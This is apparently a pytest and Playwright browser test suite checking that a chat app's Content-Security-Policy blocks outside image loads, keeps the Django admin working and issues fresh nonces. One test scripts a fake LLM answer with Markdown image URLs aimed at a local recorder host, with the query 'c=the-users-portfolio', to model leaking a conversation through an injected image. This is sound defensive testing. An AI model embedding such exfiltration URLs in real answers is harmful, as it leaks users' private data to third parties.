"""The Content-Security-Policy in a real Chromium: a Markdown image in an agent's
answer fetches nothing, and the chat page and the admin work under the policy
without a single violation."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx
import pytest
from playwright.sync_api import expect

from tests.fake_openai import FakeOpenAI, text_reply
from tests.live import LiveServer

from .chat import ChatPage, open_chat

pytestmark = [pytest.mark.browser, pytest.mark.e2e]

ADMIN = {"username": "root", "password": "admin-pw-5b1e77a0", "email": "root@example.test"}

# Every violation the page reports, from before its first script runs (Playwright's
# init scripts are not subject to the page's policy).
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener('securitypolicyviolation', (e) => {
  window.__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`);
});
"""


class Recorder:
    """A host that an injected image would leak the conversation to: it records every request."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's naming
                recorder.requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a")

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def recorder() -> Iterator[Recorder]:
    recorder = Recorder()
    yield recorder
    recorder.close()


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeOpenAI]:
    server = FakeOpenAI(api_key="test").start()
    yield server
    server.close()


@pytest.fixture(scope="module")
def server(fake: FakeOpenAI) -> Iterator[LiveServer]:
    env = {
        "LLM_BASE_URL": fake.base_url,
        "LLM_API_KEY": "test",
        "LLM_MODEL": "fake",
        "LLM_MAX_RETRIES": "0",
        "VALUECELL_DEMO_CHUNK_DELAY_MS": "5",
        "VALUECELL_SHUTDOWN_GRACE_SECONDS": "0.5",
        "DJANGO_SUPERUSER_USERNAME": ADMIN["username"],
        "DJANGO_SUPERUSER_PASSWORD": ADMIN["password"],
        "DJANGO_SUPERUSER_EMAIL": ADMIN["email"],
    }
    live = LiveServer(env=env).start()
    try:
        live.manage("createsuperuser", "--noinput")
        yield live
    finally:
        live.close()


@pytest.fixture
def chat(browser, server: LiveServer, request) -> Iterator[ChatPage]:
    """A chat page on this module's server that also records policy violations."""
    pages = open_chat(browser, server, request, viewport={"width": 1280, "height": 900})
    page = next(pages)
    page.page.add_init_script(WATCH_VIOLATIONS)
    try:
        yield page
        assert violations(page.page) == []
    finally:
        next(pages, None)  # its clean-console check, and closing the context


def violations(page) -> list[str]:
    return page.evaluate("() => window.__violations")


def test_every_html_response_carries_the_policy_with_a_fresh_nonce(server: LiveServer):
    with httpx.Client(base_url=server.url, timeout=30) as client:
        first, second = client.get("/"), client.get("/")
        for response in (first, second):
            policy = response.headers["content-security-policy"]
            assert "script-src 'self' 'nonce-" in policy and "frame-ancestors 'none'" in policy
            assert "img-src 'self';" in policy and "unsafe-inline" not in policy
            nonce = re.search(r"'nonce-([^']+)'", policy).group(1)
            assert f'<script type="importmap" nonce="{nonce}">' in response.text
        assert first.headers["content-security-policy"] != second.headers["content-security-policy"]
        assert "content-security-policy" in client.get("/admin/login/").headers
        assert "content-security-policy" not in client.get("/agents").headers  # JSON: nothing to protect


def test_a_markdown_image_in_the_agents_answer_fetches_nothing(chat: ChatPage, fake: FakeOpenAI, recorder: Recorder):
    leak = f"{recorder.url}/pixel.gif?c=the-users-portfolio"
    fake.reset()
    fake.enqueue(text_reply("Here is your chart: ", f"![NVDA chart]({leak}) and ", f"![][ref]\n\n[ref]: {leak}&two\n"))
    requested: list[str] = []
    chat.page.on("request", lambda r: requested.append(r.url))
    chat.open()
    chat.send("Show me my portfolio", agent="llm")
    chat.wait_task("done")
    message = chat.messages.last
    links = message.locator("a.image-link")
    expect(links).to_have_count(2)
    expect(links.first).to_have_text("Image: NVDA chart")
    assert links.first.get_attribute("href") == leak
    assert links.first.get_attribute("rel") == "noopener noreferrer nofollow"
    assert chat.transcript.locator("img").count() == 0
    # The page reloaded from history renders the same way.
    chat.reload()
    expect(chat.messages.last.locator("a.image-link")).to_have_count(2)
    assert chat.transcript.locator("img").count() == 0
    assert recorder.requests == []
    assert not [url for url in requested if url.startswith(recorder.url)]


def test_the_chat_page_works_under_the_policy(chat: ChatPage):
    chat.open()
    chat.send("How did NVDA and AAPL do this year?")
    chat.wait_task("done")
    # The chart (SVG, inline styles set from script) and the report (Markdown) rendered.
    expect(chat.transcript.locator("svg").first).to_be_visible()
    expect(chat.transcript.locator(".report, .component").first).to_be_visible()
    assert violations(chat.page) == []


def test_the_admin_works_under_the_policy(browser, server: LiveServer):
    with httpx.Client(base_url=server.url, timeout=30, headers={"Authorization": f"Bearer {server.token('alice')}"}) as api:
        with api.stream("POST", "/agents/stream", json={"query": "How did NVDA do this year?"}) as response:
            conversation_id = response.headers["x-conversation-id"]
            response.read()
    context = browser.new_context(base_url=server.url)
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    failed: list[str] = []
    page.on("response", lambda r: failed.append(r.url) if r.status >= 400 else None)
    page.add_init_script(WATCH_VIOLATIONS)
    try:
        page.goto("/admin/login/?next=/admin/")
        page.fill("#id_username", ADMIN["username"])
        page.fill("#id_password", ADMIN["password"])
        page.click("input[type=submit]")
        page.wait_for_url(f"{server.url}/admin/")
        assert violations(page) == []
        page.goto("/admin/conversations/conversation/")
        page.locator("#changelist-search input[type=text]").fill(conversation_id)
        page.locator("#changelist-search input[type=text]").press("Enter")
        expect(page.locator("#result_list tbody tr")).to_have_count(1)
        assert violations(page) == []
        page.goto(f"/admin/conversations/conversation/{conversation_id}/change/")
        timeline = page.locator("#timeline")
        timeline.wait_for()
        details = timeline.locator("tr.folded details").first
        details.locator("summary").click()
        expect(details.locator("table.raw")).to_be_visible()
        # The timeline's stylesheet applied (it was an inline <style> the policy would block).
        assert page.evaluate("() => getComputedStyle(document.querySelector('.timeline table')).width") != "auto"
        page.locator("#nav-sidebar, #toggle-nav-sidebar").first.wait_for(state="attached")
        page.goto("/admin/auth/user/add/")  # the admin's own scripts (prepopulate, widgets)
        expect(page.locator("#id_username")).to_be_visible()
        assert violations(page) == []
        # Every script, stylesheet and image of the pages loaded. (Chromium also asks for
        # /favicon.ico, which the admin has not: its console line is the only one allowed.)
        assert [url for url in failed if not url.endswith("/favicon.ico")] == []
        assert [e for e in errors if not e.startswith("Failed to load resource")] == []
    finally:
        context.close()
